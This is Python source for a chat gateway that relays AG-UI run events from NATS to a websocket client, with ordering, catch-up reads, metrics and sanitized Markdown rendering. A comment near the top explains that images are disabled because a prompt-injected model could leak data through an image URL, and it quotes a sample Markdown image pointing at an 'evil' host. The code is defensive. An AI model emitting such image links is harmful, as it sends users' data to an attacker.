"""One chat run followed for one client: its AG-UI events, in order and each once, to a `RunSink` (the chat
socket of /ws, the event stream of /agui): live over core NATS, and from the CHAT_EVENTS stream to catch up.

The gateway hears every run's events live through one subscription (`LiveRuns`), which hands each to the
relays that follow its run without waiting on any client: a relay sends on from its own task, so a slow
socket holds up only its own run. Text deltas that queued up for a relay meanwhile (a busy gateway) go out
as one TEXT_MESSAGE_CONTENT: under load a client gets fewer, longer frames, at rest one per token. Each
event is decoded once and handed on with the bytes the worker published, so a sink that forwards them as
they are (the socket, with the run's `runId` spliced in) does not re-serialise per token. A bus message may carry
several events (`codec.bundle`, from a busy worker): it holds one place in the run, and its events go on one by one."""

from __future__ import annotations

import asyncio
import contextlib
import json
import logging
import time
from collections import deque
from collections.abc import Awaitable, Callable
from typing import Any, Protocol

from markdown_it import MarkdownIt
from nats.aio.client import Client
from nats.js import JetStreamContext
from starlette.websockets import WebSocketDisconnect

from proto import subjects
from proto.codec import DecodeError, decode_run_event, encode_text_delta, unbundle
from proto.events import TERMINAL, EventType, TextMessageContentEvent
from services.gateway.live import LiveRuns, Stored
from services.gateway.metrics import Metrics

log = logging.getLogger(__name__)

# No raw HTML and no images: an image would be fetched as soon as the answer is shown, so a model led
# astray by a prompt injection could send data out in its URL (`![x](https://evil/?q=...)` stays a link).
MARKDOWN = (
    MarkdownIt("commonmark", {"html": False, "linkify": False}).enable("table").enable("strikethrough").disable("image")
)

Waiting = Callable[[str], Awaitable[None]]

QUIET_S = 2.0  # a started run quiet this long is read from the stream (its last events may have been missed)
QUIET_MAX_S = 30.0
READ_S = 10.0  # a read of the stream that has not caught up by then is given up (the next look tries again)


class RunSink(Protocol):
    """Where one run's events go. Either method raises WebSocketDisconnect or RuntimeError once the
    client has gone: the relay then stops."""

    async def event(self, event: Any, data: bytes) -> None:
        """One AG-UI event of the run, decoded, and as the worker published it."""

    async def rendered(self, message_id: str, html: str) -> None:
        """A finished text message as sanitized HTML (its Markdown rendered here)."""


class RunClock:
    """Times one run from the person's message: the wait for a worker, the first text, the end."""

    def __init__(self, metrics: Metrics, run_id: str) -> None:
        self.metrics = metrics
        self.run_id = run_id
        self.submitted = time.monotonic()
        self.seen: set[EventType] = set()
        self.waited: float | None = None  # from the message to its RUN_STARTED

    def saw(self, event: Any) -> None:
        kind: EventType = event.type
        if kind == EventType.TEXT_MESSAGE_CONTENT and kind in self.seen:
            return  # the run's every later token: nothing to time
        first = kind not in self.seen
        self.seen.add(kind)
        elapsed = time.monotonic() - self.submitted
        if kind == EventType.RUN_STARTED and first:
            self.metrics.observe("run_wait_seconds", elapsed)
            self.waited = elapsed  # said in the run's one line at its end
            log.debug("run_id=%s started after %.3f s", self.run_id, elapsed)
        elif kind == EventType.TEXT_MESSAGE_CONTENT and first:
            self.metrics.observe("run_first_text_seconds", elapsed)
        elif kind == EventType.RUN_FINISHED:
            self.metrics.observe("run_seconds", elapsed)
            result = event.result if isinstance(event.result, dict) else {}
            self.metrics.count("runs_finished_total", model=str(result.get("model") or ""))
            log.info(
                "run_id=%s finished in %.3f s (started after %s s) model=%s tokens=%s tokens_per_s=%s",
                self.run_id,
                elapsed,
                "?" if self.waited is None else f"{self.waited:.3f}",
                result.get("model"),
                result.get("tokens"),
                result.get("tokens_per_s"),
            )
        elif kind == EventType.RUN_ERROR:
            self.metrics.observe("run_seconds", elapsed)
            self.metrics.count("runs_failed_total", code=event.code)
            log.info("run_id=%s failed in %.3f s code=%s: %s", self.run_id, elapsed, event.code, event.message)


def with_run_id(data: bytes, run_id: str) -> str:
    """An AG-UI event's JSON object with `runId` added (a run id is letters, digits, `_` and `-`)."""
    text = data.decode().rstrip()
    if text.endswith("}"):
        return text[:-1] + f',"runId":"{run_id}"}}'
    return json.dumps(json.loads(text) | {"runId": run_id}, ensure_ascii=False)


class RunRelay:
    """Forwards one run's events to one sink, in order and each once, until the run ends, the client goes, or
    it is stopped. `clock` times a run this client submitted (not one it resumed).

    The events come live over core NATS (`LiveRuns`): no JetStream consumer per run, so nats-server does no
    consumer work per token. Each event's subject gives its place (attempt, index), so a repeat (a worker
    publishing its events again) is dropped and a gap is noticed. The stream is read to catch up: from the
    first event when following a run already under way (a resumed page, a second tab), when a gap shows, when
    the connection to NATS came back, and when a started run has been quiet for a while (the events missed
    may have been its last)."""

    def __init__(
        self, run_id: str, sink: RunSink, metrics: Metrics, clock: RunClock | None, no_worker_s: float
    ) -> None:
        self.run_id = run_id
        self.sink = sink
        self.grouping = sink if isinstance(sink, SocketSink) else None  # it can send several events in one frame
        self.metrics = metrics
        self.clock = clock
        self.no_worker_s = no_worker_s
        self.ready = asyncio.Event()  # set when the relay starts: events wait for it
        self.started = asyncio.Event()
        self.done = asyncio.Event()
        self.text: list[str] = []
        self.unfollow: Callable[[], None] | None = None  # stops the live events
        self.inbox: deque[tuple[str, bytes]] = deque()  # live events not yet taken
        self.arrived = asyncio.Event()
        self.taker: asyncio.Task[None] | None = None
        self.nc: Client | None = None
        self.js: JetStreamContext | None = None
        self.first: Stored | None = None  # the first read of the stream, opened by `subscribe`
        self.reading: asyncio.Task[None] | None = None  # a read of the stream under way
        # The attempt whose events go out, the index expected next in it, and events that came before it.
        self.attempt = 0
        self.next = 0
        self.ahead: dict[tuple[int, int], bytes] = {}
        self.sent = 0  # events sent on, to tell a quiet run
        self.taking = asyncio.Lock()  # the live subscription and a read of the stream send on one at a time

    async def subscribe(self, nc: Client, js: JetStreamContext, live: LiveRuns, stored: bool = True) -> None:
        """Follow the run's events from its first (call before submitting the run). `stored`: also read what
        the stream holds of it already; a run not submitted yet has nothing there. Waits while the run
        events' stream elects a leader (a NATS node lost)."""
        self.nc, self.js = nc, js
        self.unfollow = live.follow(self.run_id, self._live)
        self.taker = asyncio.create_task(self._take_live())
        if stored:
            try:
                self.first = await self._open_stored()
            except BaseException:
                await self.close()
                raise

    async def close(self) -> None:
        """Stop following (the run could not be submitted, or it has ended)."""
        self.done.set()
        if self.unfollow is not None:
            self.unfollow()
            self.unfollow = None
        if self.taker is not None:
            self.taker.cancel()
        if self.reading is not None:
            self.reading.cancel()
        if self.first is not None:
            await self.first.close()

    async def follow(self, waiting: Waiting) -> None:
        """Until the run ends; `waiting` is told once if no worker has started it in time."""
        self.ready.set()
        if self.first is not None:
            first, self.first = self.first, None
            self.reading = asyncio.create_task(self._read(first))
        watch = asyncio.create_task(self._watch())
        try:
            try:
                async with asyncio.timeout(self.no_worker_s):
                    await self.started.wait()
            except TimeoutError:
                await waiting(self.run_id)
            await self.done.wait()
        finally:
            watch.cancel()
            await self.close()

    async def _watch(self) -> None:
        """Read the stream again when live events may have been missed without a later one showing the gap:
        the connection to NATS was lost and came back, or a started run went quiet (less often the longer it
        stays quiet: a run waiting for a person's approval may be quiet for minutes). A run not started yet
        may only be waiting for a worker: it is read once every QUIET_MAX_S."""
        assert self.nc is not None
        nc = self.nc
        reconnects, waited = nc.stats["reconnects"], 0.0
        while not await _set_within(self.started, QUIET_S):
            waited += QUIET_S
            if nc.stats["reconnects"] != reconnects or waited >= QUIET_MAX_S:
                await self._catch_up()
                reconnects, waited = nc.stats["reconnects"], 0.0
        quiet, sent = QUIET_S, self.sent
        while not await _set_within(self.done, quiet):
            moved = nc.stats["reconnects"] != reconnects
            if moved or self.sent == sent:
                await self._catch_up()
            quiet = QUIET_S if moved or self.sent != sent else min(quiet * 2, QUIET_MAX_S)
            sent, reconnects = self.sent, nc.stats["reconnects"]

    def _catch_up(self) -> asyncio.Task[None]:
        """A read of the stream, unless one is under way."""
        if self.reading is None or self.reading.done():
            self.reading = asyncio.create_task(self._read(None))
        return self.reading

    async def _open_stored(self) -> Stored:
        assert self.js is not None
        stored = Stored(self._take)
        await stored.open(self.js, self.run_id)
        return stored

    async def _read(self, stored: Stored | None) -> None:
        """What the stream holds of the run, through `_take` (what went out already is dropped there)."""
        try:
            if stored is None:
                stored = await self._open_stored()
            async with asyncio.timeout(READ_S):
                await stored.caught_up(self.done)
        except Exception as error:  # noqa: BLE001 - the stream cannot be read now: the next look tries again
            log.warning("run_id=%s could not read its stored events: %r", self.run_id, error)
        finally:
            if stored is not None:
                await stored.close()

    def _live(self, subject: str, data: bytes) -> None:
        self.inbox.append((subject, data))
        self.arrived.set()

    async def _take_live(self) -> None:
        """The live events, as they come: all that queued up meanwhile are taken at once."""
        await self.ready.wait()
        try:
            while not self.done.is_set():
                await self.arrived.wait()
                self.arrived.clear()
                async with self.taking:
                    due: list[bytes] = []
                    while self.inbox:
                        due += self._order(*self.inbox.popleft())
                    await self._forward(due)
        except Exception:
            log.exception("run_id=%s stopped following its events", self.run_id)
            self.done.set()

    async def _take(self, subject: str, data: bytes) -> None:
        """One event read from the stream (see `_order`)."""
        await self.ready.wait()
        async with self.taking:
            await self._forward(self._order(subject, data))

    def _order(self, subject: str, data: bytes) -> list[bytes]:
        """The events to send on now that this one came: it, when it is the next, and those that came early
        and follow it; none when it came early (kept) or was sent on already (dropped)."""
        place = subjects.run_event_place(subject)
        if place is None:
            log.error("run_id=%s skipping an event on %s: its subject does not give its place", self.run_id, subject)
            return []
        attempt, index = place
        if self.done.is_set() or attempt < self.attempt or (attempt == self.attempt and index < self.next):
            return []  # sent on already (published again), or of an attempt given up
        if attempt > self.attempt and index == 0:
            self.attempt, self.next = attempt, 0  # a new attempt: the answer starts again from here
            self.ahead = {k: v for k, v in self.ahead.items() if k[0] >= attempt}
        elif (attempt, index) != (self.attempt, self.next):
            self.ahead[place] = data  # one before it is missing: the stream has it, or it comes again
            self._catch_up()
            return []
        due = [data]
        self.next += 1
        while data := self.ahead.pop((self.attempt, self.next), b""):
            due.append(data)
            self.next += 1
        return due

    async def _forward(self, due: list[bytes]) -> None:
        """Send on events in order; text deltas of one message that follow each other go out as one. When the bus
        messages carried several events each (a busy worker's), what they make goes out together where the sink
        can (one frame of the chat socket)."""
        self.sent += len(due)
        events = [event for message in due for event in unbundle(message)]
        frames: list[tuple[Any, bytes, int]] = []
        texts: list[tuple[Any, bytes]] = []  # deltas of one message, waiting to go out as one frame
        for data in events:
            try:
                event = decode_run_event(data)
            except DecodeError as error:
                log.error("run_id=%s skipping a malformed event: %s", self.run_id, error)
                continue
            text = event.type == EventType.TEXT_MESSAGE_CONTENT
            if texts and (not text or event.message_id != texts[0][0].message_id):
                frames.append(_merged(texts))  # the deltas so far end here: another event, or another message
                texts = []
            if text:
                texts.append((event, data))
            else:
                frames.append((event, data, 1))
        if texts:
            frames.append(_merged(texts))
        together = self.grouping if len(events) > len(due) and len(frames) > 1 else None
        if together is not None:
            together.hold()
        try:
            for event, data, count in frames:
                if self.done.is_set():
                    return
                await self._send(event, data, count)
        finally:
            if together is not None:
                await self._release(together)

    async def _release(self, sink: SocketSink) -> None:
        try:
            await sink.release()
        except (WebSocketDisconnect, RuntimeError):
            self.done.set()  # the client has gone

    async def _send(self, event: Any, data: bytes, events: int) -> None:
        """One event (or `events` text deltas merged into one) to the sink."""
        if event.type == EventType.RUN_STARTED:
            self.started.set()
            self.text = []
        elif event.type == EventType.TEXT_MESSAGE_CONTENT:
            self.text.append(event.delta)
        if self.clock is not None:
            self.clock.saw(event)
        try:
            await self.sink.event(event, data)
            self.metrics.count("run_events_relayed_total", events, type=event.type.value)
            if event.type == EventType.TEXT_MESSAGE_END:
                # The finished message, as sanitized Markdown rendered here (raw HTML is not allowed).
                await self.sink.rendered(event.message_id, MARKDOWN.render("".join(self.text)))
        except (WebSocketDisconnect, RuntimeError):
            self.done.set()  # the client has gone
            return
        if event.type in TERMINAL:
            self.done.set()


def _merged(texts: list[tuple[Any, bytes]]) -> tuple[Any, bytes, int]:
    """Text deltas of one message as one frame: (its event, its bytes, how many deltas it carries)."""
    if len(texts) == 1:
        return *texts[0], 1
    message_id = texts[0][0].message_id
    delta = "".join(event.delta for event, _ in texts)
    return TextMessageContentEvent(message_id=message_id, delta=delta), encode_text_delta(message_id, delta), len(texts)


async def _set_within(event: asyncio.Event, seconds: float) -> bool:
    """Whether the event is set within `seconds`."""
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(seconds):
            await event.wait()
    return event.is_set()


class SocketSink:
    """A run's events for the chat socket: each as the worker published it with the run's `runId` added,
    and `{"type": "rendered", ...}` after each finished message; a frame each, or, for events that are sent
    together (`hold`, `release`), one frame with a JSON array of them."""

    def __init__(self, run_id: str, send_text: Callable[[str], Awaitable[None]]) -> None:
        self.run_id = run_id
        self.send_text = send_text
        self.held: list[str] | None = None

    async def event(self, event: Any, data: bytes) -> None:
        # RUN_STARTED and RUN_FINISHED carry their runId already (asked of the class: a pydantic model asked
        # for a field it does not have raises inside, per token).
        has_run_id = "run_id" in type(event).model_fields
        await self._out(data.decode() if has_run_id else with_run_id(data, self.run_id))

    async def rendered(self, message_id: str, html: str) -> None:
        rendered = {"type": "rendered", "runId": self.run_id, "messageId": message_id, "html": html}
        await self._out(json.dumps(rendered, ensure_ascii=False))

    def hold(self) -> None:
        """What is sent from now on waits, to go out in one frame at `release`."""
        self.held = []

    async def release(self) -> None:
        """Send what waited: one frame, the JSON array of what waited (the message alone, if only one)."""
        held, self.held = self.held, None
        if held:
            await self.send_text(held[0] if len(held) == 1 else f"[{','.join(held)}]")

    async def _out(self, text: str) -> None:
        if self.held is None:
            await self.send_text(text)
        else:
            self.held.append(text)
